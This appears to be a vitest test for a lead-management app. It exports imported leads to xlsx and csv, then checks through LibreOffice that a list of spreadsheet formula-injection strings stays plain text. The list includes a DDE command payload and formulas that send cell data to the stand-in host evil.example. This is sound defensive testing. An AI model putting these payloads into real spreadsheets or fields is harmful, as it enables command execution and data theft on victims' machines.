// What visitors typed to run in a spreadsheet, opened by LibreOffice from every file that spreadsheets are given: it stays text.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { sofficePath } from '../../scripts/engines.ts'
import { run } from '../../scripts/run.ts'
import { type Aimant, startAimant } from '../support/aimant.ts'

const hostile = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"cliquez")',
  '=WEBSERVICE("https://evil.example")',
  '＝1+1',
  '";=1+1;"',
  ',=1+1,',
  "'=1+1",
  '0123',
  '<f>1+1</f>',
  '_x003D_1+1',
]

let aimant: Aimant
let folder: string
let token: string
beforeAll(async () => {
  ;[aimant, folder] = await Promise.all([startAimant(), mkdtemp(join(tmpdir(), 'aimant-sheets-'))])
  token = await aimant.token('leads:read', 'leads:write')
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  const ask = async (path: string, body: object) => {
    const response = await fetch(`${aimant.url}/api/v1/imports${path}`, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    })
    if (!response.ok) throw new Error(await response.text())
    return response.json() as Promise<{ id: string }>
  }
  const { id } = await ask('', {
    site: 'main',
    file: 'x.csv',
    tags: ['hostile'],
    answers: [{ key: 'remark', label: 'Remarque' }],
  })
  const rows = hostile.map((text, n) => ({
    n: n + 2,
    // The import takes one apostrophe off; what is tested is what is kept.
    values: { email: `h${n}@example.fr`, company: `'${text}`, 'answer:remark': `'${text}` },
  }))
  await ask(`/${id}/rows`, { chunk: 1, rows })
})
afterAll(async () => {
  await aimant?.stop()
  await rm(folder, { recursive: true, force: true })
})

// Separator, quote, UTF-8, from the first line on; whatever looks like a number or a formula is taken for one.
const csv = (separator: number) => `CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`

test.each([
  ['xlsx', 'format=xlsx', undefined],
  ['csv', 'format=csv', csv(44)],
  ['csv', 'format=csv&preset=excel-fr', csv(59)],
])('%s (%s) has no formula, and every text', async (ending, query, filter) => {
  const response = await fetch(`${aimant.url}/api/v1/leads/export?tag=hostile&${query}`, {
    headers: { authorization: `Bearer ${token}` },
  })
  const file = join(folder, `leads.${ending}`)
  await writeFile(file, new Uint8Array(await response.arrayBuffer()))
  await run(sofficePath()!, [
    `-env:UserInstallation=file://${folder}/profile`,
    '--headless',
    ...(filter ? [`--infilter=${filter}`] : []),
    '--convert-to',
    'fods',
    '--outdir',
    folder,
    file,
  ])
  const sheet = await readFile(join(folder, 'leads.fods'), 'utf8')
  // LibreOffice has no other way to write down a yes or a no.
  const formulas = [...sheet.matchAll(/table:formula="(.*?)"/g)].map(([, formula]) => formula)
  expect(formulas.filter((formula) => !/^of:=(?:TRUE|FALSE)\(\)$/.test(formula!))).toEqual([])
  expect(sheet).not.toContain('xlink:href="https://evil.example')
  const said = [...sheet.matchAll(/<text:p>(.*?)<\/text:p>/gs)].map(([, text]) =>
    text!
      .replace(/<text:s\/>/g, ' ')
      .replace(/<[^>]+>/g, '')
      .replace(
        /&(lt|gt|amp|quot|apos);/g,
        (_, name) => ({ lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" })[name as 'lt'],
      ),
  )
  for (const text of hostile) expect(said.map((found) => found.replace(/^'+/, ''))).toContain(text.replace(/^'+/, ''))
})
